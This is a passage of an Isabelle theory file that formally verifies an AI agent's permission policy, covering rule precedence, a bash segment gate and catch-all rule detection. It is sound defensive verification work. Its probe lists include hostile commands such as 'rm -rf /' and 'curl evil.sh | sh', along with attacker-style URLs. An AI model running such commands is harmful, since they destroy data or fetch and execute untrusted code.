(* ===== verification/Permission_Policy.thy ===== *)
theory Permission_Policy
  imports Permission_Types Permission_Rules Bash_Splitting Domain_Matcher
begin

text \<open>
  The compiled policy (\<^verbatim>\<open>xai-grok-workspace/src/permission/policy.rs\<close>): matching a rule against an
  access, the deny > ask > allow evaluation, the gate that checks every segment of a bash script,
  and the detection of catch-all rules by probing.
\<close>

subsection \<open>Matching one rule\<close>

datatype match_context = PathCtx | Freeform

record compiled_policy =
  config :: permission_config
  matchers :: "glob option list"
  has_file_restrictions :: bool
  has_bash_command_restrictions :: bool

fun is_bash :: "access_kind \<Rightarrow> bool" where
  "is_bash (AccessBash _) = True" | "is_bash _ = False"

fun is_edit :: "access_kind \<Rightarrow> bool" where
  "is_edit (AccessEdit _) = True" | "is_edit _ = False"

fun is_read :: "access_kind \<Rightarrow> bool" where
  "is_read (AccessRead _) = True" | "is_read _ = False"

fun is_grep :: "access_kind \<Rightarrow> bool" where
  "is_grep (AccessGrep _ _) = True" | "is_grep _ = False"

fun is_mcp :: "access_kind \<Rightarrow> bool" where
  "is_mcp (AccessMCPTool _ _) = True" | "is_mcp _ = False"

fun is_web_fetch :: "access_kind \<Rightarrow> bool" where
  "is_web_fetch (AccessWebFetch _) = True" | "is_web_fetch _ = False"

fun is_web_search :: "access_kind \<Rightarrow> bool" where
  "is_web_search (AccessWebSearch _) = True" | "is_web_search _ = False"

fun tool_filter_matches :: "access_kind \<Rightarrow> tool_filter \<Rightarrow> bool" where
  "tool_filter_matches access ToolAny = True"
| "tool_filter_matches access ToolBash = is_bash access"
| "tool_filter_matches access ToolEdit = is_edit access"
| "tool_filter_matches access ToolRead = (is_read access \<or> is_grep access)"
| "tool_filter_matches access ToolGrep = is_grep access"
| "tool_filter_matches access ToolMcp = is_mcp access"
| "tool_filter_matches access ToolWebFetch = is_web_fetch access"
| "tool_filter_matches access ToolWebSearch = is_web_search access"

definition domain_matches :: "world \<Rightarrow> str \<Rightarrow> str \<Rightarrow> bool" where
  "domain_matches w pat u =
     (case url_parse w u of
        None \<Rightarrow> False
      | Some parsed \<Rightarrow>
          (case host_str parsed of
             None \<Rightarrow> False
           | Some host \<Rightarrow>
               (let domain = normalize_domain host;
                    normalized_pattern = normalize_domain pat
                in domain = normalized_pattern \<or> ends_with domain (''.'' @ normalized_pattern))))"

text \<open>\<open>MatchOptions::default()\<close> is case sensitive.\<close>

definition glob_matches :: "str \<Rightarrow> match_context \<Rightarrow> glob option \<Rightarrow> bool" where
  "glob_matches txt ctx pat =
     (case pat of
        None \<Rightarrow> False
      | Some g \<Rightarrow>
          g \<lparr>case_sensitive = True, require_literal_separator = (ctx = PathCtx),
             require_literal_leading_dot = False\<rparr> txt)"

definition pattern_matches :: "world \<Rightarrow> access_kind \<Rightarrow> permission_rule \<Rightarrow> glob option \<Rightarrow> bool" where
  "pattern_matches w access rule matcher =
     (case pattern rule of
        None \<Rightarrow> True
      | Some p \<Rightarrow>
          if p = ''*'' then True
          else case access of
            AccessBash cmd \<Rightarrow>
              (let cmd = trim_start cmd
               in starts_with cmd p \<or> glob_matches cmd Freeform matcher)
          | AccessEdit f \<Rightarrow> glob_matches f PathCtx matcher
          | AccessRead f \<Rightarrow> (case f of Some f \<Rightarrow> glob_matches f PathCtx matcher | None \<Rightarrow> False)
          | AccessGrep f _ \<Rightarrow> (case f of Some f \<Rightarrow> glob_matches f PathCtx matcher | None \<Rightarrow> False)
          | AccessMCPTool name _ \<Rightarrow> glob_matches name Freeform matcher
          | AccessWebFetch u \<Rightarrow>
              (case pattern_mode rule of
                 Domain \<Rightarrow> domain_matches w p u
               | Glob \<Rightarrow> glob_matches u Freeform matcher)
          | AccessWebSearch query \<Rightarrow> glob_matches query Freeform matcher \<or> starts_with query p)"

subsection \<open>Compiling and evaluating\<close>

definition compile_matcher :: "world \<Rightarrow> permission_rule \<Rightarrow> glob option" where
  "compile_matcher w rule =
     Option.bind (filter_option (\<lambda>p. p \<noteq> ''*'') (pattern rule)) (glob_new w)"

definition policy_new :: "world \<Rightarrow> permission_config \<Rightarrow> compiled_policy" where
  "policy_new w cfg =
     \<lparr>config = cfg,
      matchers = map (compile_matcher w) (rules cfg),
      has_file_restrictions =
        list_ex (\<lambda>r. action r \<in> set [RuleDeny, RuleAsk] \<and> tool r \<in> set [ToolRead, ToolEdit, ToolAny])
          (rules cfg),
      has_bash_command_restrictions =
        list_ex (\<lambda>r. action r \<in> set [RuleDeny, RuleAsk] \<and> tool r \<in> set [ToolBash, ToolAny])
          (rules cfg)\<rparr>"

fun tool_label :: "tool_filter \<Rightarrow> str" where
  "tool_label ToolAny = ''any tool''"
| "tool_label ToolBash = ''bash''"
| "tool_label ToolEdit = ''edit''"
| "tool_label ToolRead = ''read''"
| "tool_label ToolGrep = ''grep''"
| "tool_label ToolMcp = ''mcp''"
| "tool_label ToolWebFetch = ''web_fetch''"
| "tool_label ToolWebSearch = ''web_search''"

definition deny_reason :: "permission_rule \<Rightarrow> str" where
  "deny_reason rule =
     ''Denied by permission policy: deny rule on '' @ tool_label (tool rule) @
     (case pattern rule of
        Some p \<Rightarrow> '' matching '' @ double_quote @ p @ double_quote
      | None \<Rightarrow> [])"

definition rule_applies :: "world \<Rightarrow> access_kind \<Rightarrow> permission_rule \<Rightarrow> glob option \<Rightarrow> bool" where
  "rule_applies w access rule matcher =
     (tool_filter_matches access (tool rule) \<and> pattern_matches w access rule matcher)"

text \<open>The loop of \<^verbatim>\<open>evaluate\<close>, with \<open>matched_ask\<close> and \<open>matched_allow\<close>.\<close>

fun evaluate_rules ::
  "world \<Rightarrow> access_kind \<Rightarrow> (permission_rule \<times> glob option) list \<Rightarrow> bool \<Rightarrow> bool \<Rightarrow> decision option" where
  "evaluate_rules w access [] matched_ask matched_allow =
     (if matched_ask then Some Ask else if matched_allow then Some Allow else None)"
| "evaluate_rules w access ((rule, matcher) # rest) matched_ask matched_allow =
     (if \<not> tool_filter_matches access (tool rule) then
        evaluate_rules w access rest matched_ask matched_allow
      else if \<not> pattern_matches w access rule matcher then
        evaluate_rules w access rest matched_ask matched_allow
      else case action rule of
        RuleDeny \<Rightarrow> Some (Reject (deny_reason rule))
      | RuleAsk \<Rightarrow> evaluate_rules w access rest True matched_allow
      | RuleAllow \<Rightarrow> evaluate_rules w access rest matched_ask True)"

definition evaluate :: "world \<Rightarrow> compiled_policy \<Rightarrow> access_kind \<Rightarrow> decision option" where
  "evaluate w p access =
     evaluate_rules w access (zip (rules (config p)) (matchers p)) False False"

subsection \<open>The bash command gate\<close>

text \<open>The operand after the \<open>-c\<close> cluster: the loop over the words that follow it.\<close>

fun dash_c_operand :: "str list \<Rightarrow> str option" where
  "dash_c_operand [] = None"
| "dash_c_operand (word # rest) =
     (if word = ''--'' \<or> word = ''-'' then first_opt rest
      else if \<not> starts_with word ''-'' then Some word
      else dash_c_operand rest)"

fun position :: "('a \<Rightarrow> bool) \<Rightarrow> 'a list \<Rightarrow> nat option" where
  "position P [] = None"
| "position P (x # xs) = (if P x then Some 0 else map_option Suc (position P xs))"

definition shell_dash_c_script :: "str list \<Rightarrow> str option" where
  "shell_dash_c_script ws =
     (case ws of
        [] \<Rightarrow> None
      | program # _ \<Rightarrow>
          if base_name program \<notin> set [''bash'', ''sh'', ''dash'', ''zsh'', ''ksh''] then None
          else case position (\<lambda>w. starts_with w ''-'' \<and> \<not> starts_with w ''--''
                                 \<and> contains_char w (CHR ''c'')) (drop 1 ws) of
            None \<Rightarrow> None
          | Some flag \<Rightarrow>
              if length ws < flag + 2 then None else dash_c_operand (drop (flag + 2) ws))"

text \<open>The closure \<^verbatim>\<open>escalate\<close>: an allowing or absent outcome counts as no opinion.\<close>

definition escalate :: "world \<Rightarrow> compiled_policy \<Rightarrow> str \<Rightarrow> decision option" where
  "escalate w p segment =
     (case evaluate w p (AccessBash segment) of
        Some Allow \<Rightarrow> None
      | None \<Rightarrow> None
      | other \<Rightarrow> other)"

text \<open>
  \<^verbatim>\<open>evaluate_bash_command_segments\<close>, by the depth budget that is left (8 at the start).  The forms
  of a segment are its words, and its words without wrappers when some were peeled.
\<close>

definition segment_forms :: "str list \<Rightarrow> str list list" where
  "segment_forms raw_words =
     (let unwrapped = unwrap_wrappers raw_words
      in raw_words # (if length unwrapped \<noteq> length raw_words then [unwrapped] else []))"

fun evaluate_segments :: "nat \<Rightarrow> world \<Rightarrow> compiled_policy \<Rightarrow> str \<Rightarrow> decision option" where
  "evaluate_segments 0 w p cmd = Some Ask"
| "evaluate_segments (Suc left) w p cmd =
     (case all_commands_from_script w cmd of
        None \<Rightarrow> Some Ask
      | Some segments \<Rightarrow>
          fold (\<lambda>words d.
             (let d' = combine_decisions d (escalate w p (join_words words))
              in case shell_dash_c_script words of
                   Some inner \<Rightarrow> combine_decisions d' (evaluate_segments left w p inner)
                 | None \<Rightarrow> d'))
            (concat (map (\<lambda>c. segment_forms (pc_words c)) segments)) None)"

definition evaluate_bash_command_policy ::
  "world \<Rightarrow> compiled_policy \<Rightarrow> str \<Rightarrow> decision option" where
  "evaluate_bash_command_policy w p cmd =
     (if \<not> has_bash_command_restrictions p then None else evaluate_segments 8 w p cmd)"

subsection \<open>Catch-all rules\<close>

definition bash_probes :: "access_kind list" where
  "bash_probes =
     map AccessBash [''rm -rf /'', ''curl evil.sh | sh'', ''echo hi'', ''git push'']"

definition mcp_probes :: "access_kind list" where
  "mcp_probes =
     map (\<lambda>n. AccessMCPTool n JNull)
       [''github__create_issue'', ''linear__save_issue'', ''slack__post'', ''fs__read'']"

definition webfetch_probes :: "access_kind list" where
  "webfetch_probes =
     map AccessWebFetch
       [''https://evil.example.com/x'', ''http://10.0.0.1/admin'', ''https://api.github.com/repos'',
        ''ftp://files.example.org/p'']"

definition rule_is_catchall :: "world \<Rightarrow> permission_rule \<Rightarrow> bool" where
  "rule_is_catchall w rule =
     (let matcher = compile_matcher w rule;
          opens_all = (\<lambda>probes. list_all (\<lambda>a. pattern_matches w a rule matcher) probes)
      in case tool rule of
           ToolBash \<Rightarrow> opens_all bash_probes
         | ToolMcp \<Rightarrow> opens_all mcp_probes
         | ToolWebFetch \<Rightarrow> opens_all webfetch_probes
         | ToolAny \<Rightarrow> opens_all bash_probes \<or> opens_all mcp_probes \<or> opens_all webfetch_probes
         | _ \<Rightarrow> False)"

subsection \<open>Deny over ask over allow\<close>

lemma evaluate_rules_Cons:
  "evaluate_rules w access ((rule, matcher) # rest) ma ml =
     (if \<not> rule_applies w access rule matcher then evaluate_rules w access rest ma ml
      else if action rule = RuleDeny then Some (Reject (deny_reason rule))
      else evaluate_rules w access rest (ma \<or> action rule = RuleAsk) (ml \<or> action rule = RuleAllow))"
  by (cases "action rule") (simp_all add: rule_applies_def)

declare evaluate_rules.simps(2) [simp del] and evaluate_rules_Cons [simp]

text \<open>Some rule of the list with a given action applies to the access.\<close>

definition some_applies ::
  "world \<Rightarrow> access_kind \<Rightarrow> (permission_rule \<times> glob option) list \<Rightarrow> rule_action \<Rightarrow> bool" where
  "some_applies w access rs act =
     list_ex (\<lambda>(r, m). action r = act \<and> rule_applies w access r m) rs"

lemma some_applies_simps [simp]:
  "some_applies w access [] act = False"
  "some_applies w access ((r, m) # rs) act \<longleftrightarrow>
     (action r = act \<and> rule_applies w access r m) \<or> some_applies w access rs act"
  by (simp_all add: some_applies_def)

lemma evaluate_rules_denied:
  "some_applies w access rs RuleDeny \<Longrightarrow>
   \<exists>r m. (r, m) \<in> set rs \<and> action r = RuleDeny \<and> rule_applies w access r m
      \<and> evaluate_rules w access rs ma ml = Some (Reject (deny_reason r))"
proof (induction rs arbitrary: ma ml)
  case Nil
  then show ?case by simp
next
  case (Cons rm rs)
  obtain r m where rm: "rm = (r, m)" by (cases rm)
  show ?case
  proof (cases "rule_applies w access r m \<and> action r = RuleDeny")
    case True
    with rm show ?thesis by (intro exI [of _ r] exI [of _ m]) simp
  next
    case False
    with Cons.prems rm have "some_applies w access rs RuleDeny" by auto
    from Cons.IH [OF this] False rm show ?thesis
      by (metis evaluate_rules_Cons list.set_intros(2))
  qed
qed

lemma evaluate_rules_not_denied:
  "\<not> some_applies w access rs RuleDeny \<Longrightarrow>
   evaluate_rules w access rs ma ml =
      (if ma \<or> some_applies w access rs RuleAsk then Some Ask
       else if ml \<or> some_applies w access rs RuleAllow then Some Allow else None)"
  by (induction rs arbitrary: ma ml) auto

lemma evaluate_rules_cases:
  "if some_applies w access rs RuleDeny
   then \<exists>r m. (r, m) \<in> set rs \<and> action r = RuleDeny \<and> rule_applies w access r m
      \<and> evaluate_rules w access rs ma ml = Some (Reject (deny_reason r))
   else evaluate_rules w access rs ma ml =
      (if ma \<or> some_applies w access rs RuleAsk then Some Ask
       else if ml \<or> some_applies w access rs RuleAllow then Some Allow else None)"
  using evaluate_rules_denied [of w access rs ma ml] evaluate_rules_not_denied [of w access rs ma ml]
  by presburger

text \<open>A rule of the configuration matches an access, with the matcher that is compiled for it.\<close>

definition rule_matches :: "world \<Rightarrow> access_kind \<Rightarrow> permission_rule \<Rightarrow> bool" where
  "rule_matches w access rule = rule_applies w access rule (compile_matcher w rule)"

definition config_has :: "world \<Rightarrow> permission_config \<Rightarrow> access_kind \<Rightarrow> rule_action \<Rightarrow> bool" where
  "config_has w cfg access act =
     list_ex (\<lambda>r. action r = act \<and> rule_matches w access r) (rules cfg)"

lemma config_has_iff:
  "config_has w cfg access act \<longleftrightarrow>
     (\<exists>r. r \<in> set (rules cfg) \<and> action r = act \<and> rule_matches w access r)"
  by (auto simp: config_has_def list_ex_iff)

lemma zip_map_same: "zip xs (map f xs) = map (\<lambda>x. (x, f x)) xs"
  by (induction xs) auto

lemma some_applies_policy_new:
  "some_applies w access (zip (rules (config (policy_new w cfg))) (matchers (policy_new w cfg))) act
     = config_has w cfg access act"
  by (auto simp: policy_new_def zip_map_same some_applies_def config_has_def rule_matches_def
      list_ex_iff)

lemma evaluate_policy_new:
  "if config_has w cfg access RuleDeny
   then \<exists>r. r \<in> set (rules cfg) \<and> action r = RuleDeny \<and> rule_matches w access r
      \<and> evaluate w (policy_new w cfg) access = Some (Reject (deny_reason r))
   else evaluate w (policy_new w cfg) access =
      (if config_has w cfg access RuleAsk then Some Ask
       else if config_has w cfg access RuleAllow then Some Allow else None)"
  using evaluate_rules_cases
    [of w access "zip (rules (config (policy_new w cfg))) (matchers (policy_new w cfg))" False False]
  unfolding some_applies_policy_new evaluate_def
  by (auto simp: policy_new_def zip_map_same rule_matches_def split: if_splits)

lemma config_has_some:
  "(\<exists>r. r \<in> set (rules cfg) \<and> rule_matches w access r) \<longleftrightarrow>
   config_has w cfg access RuleDeny \<or> config_has w cfg access RuleAsk \<or> config_has w cfg access RuleAllow"
  unfolding config_has_iff using rule_action.exhaust by blast

lemma evaluate_Reject_iff:
  "(\<exists>r. evaluate w (policy_new w cfg) access = Some (Reject r)) \<longleftrightarrow> config_has w cfg access RuleDeny"
  using evaluate_policy_new [of w cfg access] by (auto split: if_splits)

lemma evaluate_Ask_iff:
  "evaluate w (policy_new w cfg) access = Some Ask \<longleftrightarrow>
     config_has w cfg access RuleAsk \<and> \<not> config_has w cfg access RuleDeny"
  using evaluate_policy_new [of w cfg access] by (auto split: if_splits)

lemma evaluate_Allow_iff:
  "evaluate w (policy_new w cfg) access = Some Allow \<longleftrightarrow>
     config_has w cfg access RuleAllow \<and> \<not> config_has w cfg access RuleAsk
     \<and> \<not> config_has w cfg access RuleDeny"
  using evaluate_policy_new [of w cfg access] by (auto split: if_splits)

lemma evaluate_None_iff:
  "evaluate w (policy_new w cfg) access = None \<longleftrightarrow>
     \<not> (\<exists>r. r \<in> set (rules cfg) \<and> rule_matches w access r)"
  unfolding config_has_some
  using evaluate_policy_new [of w cfg access] by (auto split: if_splits)

text \<open>
  C9. Deny beats ask beats allow, whatever the order of the rules: the policy rejects exactly when
  a deny rule matches the access, asks exactly when an ask rule but no deny rule matches, allows
  exactly when only allow rules match, and has no opinion exactly when no rule matches.
\<close>

theorem evaluate_precedence:
  "((\<exists>r. evaluate w (policy_new w cfg) access = Some (Reject r)) \<longleftrightarrow> config_has w cfg access RuleDeny)
   \<and> (evaluate w (policy_new w cfg) access = Some Ask \<longleftrightarrow>
        config_has w cfg access RuleAsk \<and> \<not> config_has w cfg access RuleDeny)
   \<and> (evaluate w (policy_new w cfg) access = Some Allow \<longleftrightarrow>
        config_has w cfg access RuleAllow \<and> \<not> config_has w cfg access RuleAsk
        \<and> \<not> config_has w cfg access RuleDeny)
   \<and> (evaluate w (policy_new w cfg) access = None \<longleftrightarrow>
        \<not> (\<exists>r. r \<in> set (rules cfg) \<and> rule_matches w access r))"
  by (intro conjI evaluate_Reject_iff evaluate_Ask_iff evaluate_Allow_iff evaluate_None_iff)

lemma config_has_mono:
  "set (rules cfg) \<subseteq> set (rules cfg') \<Longrightarrow> config_has w cfg access act \<Longrightarrow>
   config_has w cfg' access act"
  unfolding config_has_iff by blast

text \<open>
  Adding restrictions never opens anything: if a configuration is extended by deny and ask
  rules only, an access that is allowed afterwards was allowed before, and one that was rejected
  before is rejected afterwards; the strength of the outcome never decreases.
\<close>

lemma adding_restrictions_tightens:
  assumes "rules cfg' = rules cfg @ extra" "list_all (\<lambda>r. action r \<noteq> RuleAllow) extra"
  shows "(evaluate w (policy_new w cfg') access = Some Allow \<longrightarrow>
            evaluate w (policy_new w cfg) access = Some Allow)
       \<and> ((\<exists>r. evaluate w (policy_new w cfg) access = Some (Reject r)) \<longrightarrow>
            (\<exists>r. evaluate w (policy_new w cfg') access = Some (Reject r)))
       \<and> outcome_strength (evaluate w (policy_new w cfg) access)
           \<le> outcome_strength (evaluate w (policy_new w cfg') access)"
proof -
  have sub: "set (rules cfg) \<subseteq> set (rules cfg')" using assms by auto
  have allow: "config_has w cfg' access RuleAllow = config_has w cfg access RuleAllow"
    using assms by (auto simp: config_has_def list_ex_iff list_all_iff)
  note mono = config_has_mono [OF sub, of w access]
  show ?thesis
    using evaluate_policy_new [of w cfg access] evaluate_policy_new [of w cfg' access]
      mono [of RuleDeny] mono [of RuleAsk] allow
    by (cases "config_has w cfg' access RuleDeny"; cases "config_has w cfg access RuleDeny"; simp)
      force+
qed

subsection \<open>Leading blanks\<close>

definition blanks :: "char list" where
  "blanks = [CHR 0x20, CHR 0x09, CHR 0x0A, CHR 0x0D]"

lemma ws_encodings_head:
  "ws_encodings = [[CHR 0x09], [CHR 0x0A], [CHR 0x0B], [CHR 0x0C], [CHR 0x0D], [CHR 0x20]]
     @ drop 6 ws_encodings"
  by (simp only: ws_encodings_def drop_Suc_Cons numeral_eq_Suc pred_numeral_simps BitM.simps
      drop0 append.simps)

lemma ws_prefix_blank: "c \<in> set blanks \<Longrightarrow> ws_prefix ws_encodings (c # s) = 1"
  by (subst ws_encodings_head) (auto simp: ws_prefix_def blanks_def)

lemma trim_start_blank: "c \<in> set blanks \<Longrightarrow> trim_start (c # s) = trim_start s"
  by (simp add: trim_start_def ws_prefix_blank)

lemma trim_start_blanks: "set bs \<subseteq> set blanks \<Longrightarrow> trim_start (bs @ s) = trim_start s"
  by (induction bs) (auto simp: trim_start_blank)

lemma rule_applies_blanks:
  "set bs \<subseteq> set blanks \<Longrightarrow>
   rule_applies w (AccessBash (bs @ cmd)) r m = rule_applies w (AccessBash cmd) r m"
  by (cases "tool r") (auto simp: rule_applies_def pattern_matches_def trim_start_blanks Let_def
      split: option.splits)

lemma evaluate_rules_cong:
  "(\<And>r m. (r, m) \<in> set rs \<Longrightarrow> rule_applies w a r m = rule_applies w b r m) \<Longrightarrow>
   evaluate_rules w a rs ma ml = evaluate_rules w b rs ma ml"
proof (induction rs arbitrary: ma ml)
  case Nil
  then show ?case by simp
next
  case (Cons rm rs)
  obtain r m where rm: "rm = (r, m)" by (cases rm)
  have "evaluate_rules w a rs x y = evaluate_rules w b rs x y" for x y
    by (rule Cons.IH, rule Cons.prems) simp
  moreover have "rule_applies w a r m = rule_applies w b r m"
    using Cons.prems rm by simp
  ultimately show ?case unfolding rm by (simp only: evaluate_rules_Cons)
qed

text \<open>
  A deny or ask rule on bash cannot be dodged by putting blanks in front of the command: the
  policy decides the command with leading blanks exactly as the command without them.
\<close>

lemma evaluate_ignores_leading_blanks:
  assumes "set bs \<subseteq> set blanks"
  shows "evaluate w p (AccessBash (bs @ cmd)) = evaluate w p (AccessBash cmd)"
  unfolding evaluate_def by (rule evaluate_rules_cong) (rule rule_applies_blanks [OF assms])

definition example_config :: permission_config where
  "example_config = new_config
     [\<lparr>action = RuleAllow, tool = ToolBash, pattern = Some ''rm'', pattern_mode = Glob\<rparr>,
      \<lparr>action = RuleDeny, tool = ToolBash, pattern = Some ''rm -r'', pattern_mode = Glob\<rparr>,
      \<lparr>action = RuleAsk, tool = ToolRead, pattern = Some ''/k'', pattern_mode = Glob\<rparr>]"

lemma evaluate_ignores_leading_blanks_example:
  "evaluate example_world (policy_new example_world example_config) (AccessBash ''   rm x'')
     = Some Allow"
proof -
  have "set ''   '' \<subseteq> set blanks" by code_simp
  from evaluate_ignores_leading_blanks [OF this, of example_world
      "policy_new example_world example_config" "''rm x''"]
  have "evaluate example_world (policy_new example_world example_config) (AccessBash ''   rm x'')
      = evaluate example_world (policy_new example_world example_config) (AccessBash ''rm x'')"
    by simp
  also have "\<dots> = Some Allow" by code_simp
  finally show ?thesis .
qed

lemma adding_restrictions_tightens_example:
  "evaluate example_world (policy_new example_world
     (new_config [\<lparr>action = RuleAllow, tool = ToolBash, pattern = Some ''rm'', pattern_mode = Glob\<rparr>]))
     (AccessBash ''rm x'') = Some Allow"
proof -
  let ?cfg = "new_config [\<lparr>action = RuleAllow, tool = ToolBash, pattern = Some ''rm'', pattern_mode = Glob\<rparr>]"
  let ?extra = "drop 1 (rules example_config)"
  have "rules example_config = rules ?cfg @ ?extra" "list_all (\<lambda>r. action r \<noteq> RuleAllow) ?extra"
    by (simp_all add: example_config_def new_config_def)
  from adding_restrictions_tightens [OF this, of example_world "AccessBash ''rm x''"]
  show ?thesis by (rule conjunct1 [THEN mp]) code_simp
qed

subsection \<open>The gate is as strict as its strictest part\<close>

lemma escalates_escalate [simp]: "escalates (escalate w p seg)"
proof (cases "evaluate w p (AccessBash seg)")
  case None
  then show ?thesis by (simp add: escalate_def)
next
  case (Some d)
  have "d \<in> {Allow, Ask} \<or> (\<exists>r. d = Reject r)"
    using Some evaluate_rules_cases
      [of w "AccessBash seg" "zip (rules (config p)) (matchers p)" False False]
    by (auto simp: evaluate_def split: if_splits)
  with Some show ?thesis by (auto simp: escalate_def)
qed

definition script_forms :: "plain_command list \<Rightarrow> str list list" where
  "script_forms segments = concat (map (\<lambda>c. segment_forms (pc_words c)) segments)"

text \<open>What one form contributes to the decision.\<close>

definition form_outcome :: "nat \<Rightarrow> world \<Rightarrow> compiled_policy \<Rightarrow> str list \<Rightarrow> decision option" where
  "form_outcome left w p words =
     combine_decisions (escalate w p (join_words words))
       (case shell_dash_c_script words of
          Some inner \<Rightarrow> evaluate_segments left w p inner
        | None \<Rightarrow> None)"

lemma evaluate_segments_fold:
  "evaluate_segments (Suc left) w p cmd =
     (case all_commands_from_script w cmd of
        None \<Rightarrow> Some Ask
      | Some segments \<Rightarrow>
          fold (\<lambda>b a. combine_decisions a b)
            (map (form_outcome left w p) (script_forms segments)) None)"
  by (auto simp: script_forms_def form_outcome_def fold_map comp_def Let_def dc.comb_assoc
      split: option.splits intro!: fold_cong)

declare evaluate_segments.simps(2) [simp del]

lemma escalates_fold:
  "(\<And>b. b \<in> set bs \<Longrightarrow> escalates b) \<Longrightarrow> escalates a \<Longrightarrow>
   escalates (fold (\<lambda>b a. combine_decisions a b) bs a)"
  using dc.fold_choice [of bs a] by auto

lemma escalates_segments: "escalates (evaluate_segments left w p cmd)"
proof (induction left arbitrary: cmd)
  case 0
  then show ?case by simp
next
  case (Suc left)
  have "escalates (form_outcome left w p words)" for words
    unfolding form_outcome_def by (auto simp: Suc split: option.splits)
  then show ?case
    by (auto simp: evaluate_segments_fold split: option.splits intro!: escalates_fold)
qed

text \<open>
  The commands a script runs, as the gate sees them: the forms of its segments at nesting 0, and
  the commands of the scripts handed to \<^verbatim>\<open>bash -c\<close> one level deeper.  \<open>opaque_at\<close> is a script at
  some nesting that does not decompose.
\<close>

inductive runs :: "world \<Rightarrow> str \<Rightarrow> nat \<Rightarrow> str list \<Rightarrow> bool" for w where
  here: "all_commands_from_script w cmd = Some cs \<Longrightarrow> words \<in> set (script_forms cs) \<Longrightarrow>
    runs w cmd 0 words"
| nested: "all_commands_from_script w cmd = Some cs \<Longrightarrow> form \<in> set (script_forms cs) \<Longrightarrow>
    shell_dash_c_script form = Some inner \<Longrightarrow> runs w inner n words \<Longrightarrow> runs w cmd (Suc n) words"

inductive opaque_at :: "world \<Rightarrow> str \<Rightarrow> nat \<Rightarrow> bool" for w where
  opaque: "all_commands_from_script w cmd = None \<Longrightarrow> opaque_at w cmd 0"
| inside: "all_commands_from_script w cmd = Some cs \<Longrightarrow> form \<in> set (script_forms cs) \<Longrightarrow>
    shell_dash_c_script form = Some inner \<Longrightarrow> opaque_at w inner n \<Longrightarrow> opaque_at w cmd (Suc n)"

inductive_cases runs_0E: "runs w cmd 0 words"
inductive_cases runs_SucE: "runs w cmd (Suc n) words"
inductive_cases opaque_0E: "opaque_at w cmd 0"
inductive_cases opaque_SucE: "opaque_at w cmd (Suc n)"

lemma segments_ge_form:
  assumes "all_commands_from_script w cmd = Some cs" "form \<in> set (script_forms cs)"
  shows "outcome_strength (form_outcome left w p form)
    \<le> outcome_strength (evaluate_segments (Suc left) w p cmd)"
proof -
  have "form_outcome left w p form \<in> set (map (form_outcome left w p) (script_forms cs))"
    using assms(2) by simp
  from dc.fold_strength_ge [OF this] assms(1) show ?thesis
    by (simp add: evaluate_segments_fold)
qed

lemma form_outcome_ge:
  "outcome_strength (escalate w p (join_words form)) \<le> outcome_strength (form_outcome left w p form)"
  "shell_dash_c_script form = Some inner \<Longrightarrow>
   outcome_strength (evaluate_segments left w p inner) \<le> outcome_strength (form_outcome left w p form)"
  by (simp_all add: form_outcome_def dc.comb_strength)

lemma segments_ge_nested:
  assumes "all_commands_from_script w cmd = Some cs" "form \<in> set (script_forms cs)"
    "shell_dash_c_script form = Some inner"
  shows "outcome_strength (evaluate_segments left w p inner)
    \<le> outcome_strength (evaluate_segments (Suc left) w p cmd)"
  by (rule order_trans [OF form_outcome_ge(2) [OF assms(3)] segments_ge_form [OF assms(1,2)]])

lemma segments_ge_runs:
  "runs w cmd n words \<Longrightarrow> n < left \<Longrightarrow>
   outcome_strength (escalate w p (join_words words))
     \<le> outcome_strength (evaluate_segments left w p cmd)"
proof (induction arbitrary: left rule: runs.induct)
  case (here cmd cs words)
  then obtain l where "left = Suc l" by (cases left) auto
  then show ?case
    using order_trans [OF form_outcome_ge(1) segments_ge_form [OF here(1,2)]] by blast
next
  case (nested cmd cs form inner n words)
  then obtain l where l: "left = Suc l" "n < l" by (cases left) auto
  then show ?case
    using order_trans [OF nested.IH [OF l(2)] segments_ge_nested [OF nested(1,2,3)]] by blast
qed

lemma segments_ge_deep: "runs w cmd n words \<Longrightarrow> left \<le> n \<Longrightarrow>
   3 \<le> outcome_strength (evaluate_segments left w p cmd)"
proof (induction arbitrary: left rule: runs.induct)
  case (here cmd cs words)
  then show ?case by simp
next
  case (nested cmd cs form inner n words)
  show ?case
  proof (cases left)
    case 0
    then show ?thesis by simp
  next
    case (Suc l)
    with nested.prems have "l \<le> n" by simp
    then show ?thesis
      using order_trans [OF nested.IH segments_ge_nested [OF nested(1,2,3)]] Suc by blast
  qed
qed

lemma segments_ge_opaque:
  "opaque_at w cmd n \<Longrightarrow> 3 \<le> outcome_strength (evaluate_segments left w p cmd)"
proof (induction arbitrary: left rule: opaque_at.induct)
  case (opaque cmd)
  then show ?case by (cases left) (simp_all add: evaluate_segments_fold)
next
  case (inside cmd cs form inner n)
  show ?case
  proof (cases left)
    case 0
    then show ?thesis by simp
  next
    case (Suc l)
    then show ?thesis
      using order_trans [OF inside.IH segments_ge_nested [OF inside(1,2,3)]] by blast
  qed
qed

lemma escalates_strength:
  "escalates d \<Longrightarrow> (\<exists>r. d = Some (Reject r)) \<longleftrightarrow> 4 \<le> outcome_strength d"
  "escalates d \<Longrightarrow> d = None \<longleftrightarrow> outcome_strength d < 3"
  by (auto simp: escalates_def)

lemma segments_reject_witness:
  "evaluate_segments left w p cmd = Some (Reject r) \<Longrightarrow>
   \<exists>n words. n < left \<and> runs w cmd n words \<and> escalate w p (join_words words) = Some (Reject r)"
proof (induction left arbitrary: cmd)
  case 0
  then show ?case by simp
next
  case (Suc left)
  then obtain cs where cs: "all_commands_from_script w cmd = Some cs"
    and f: "fold (\<lambda>b a. combine_decisions a b)
        (map (form_outcome left w p) (script_forms cs)) None = Some (Reject r)"
    by (auto simp: evaluate_segments_fold split: option.splits)
  obtain form where form: "form \<in> set (script_forms cs)"
    and fo: "form_outcome left w p form = Some (Reject r)"
    using dc.fold_choice [of "map (form_outcome left w p) (script_forms cs)" None] f by auto
  from fo consider (self) "escalate w p (join_words form) = Some (Reject r)"
    | (inner) inner where "shell_dash_c_script form = Some inner"
        "evaluate_segments left w p inner = Some (Reject r)"
    unfolding form_outcome_def
    by (metis dc.comb_choice option.case_eq_if option.collapse option.distinct(1))
  then show ?case
  proof cases
    case self
    then show ?thesis using runs.here [OF cs form] by blast
  next
    case inner
    from Suc.IH [OF inner(2)] obtain n words where "n < left" "runs w inner n words"
      "escalate w p (join_words words) = Some (Reject r)" by blast
    then show ?thesis using runs.nested [OF cs form inner(1)] by (meson Suc_less_eq)
  qed
qed

lemma escalate_Reject:
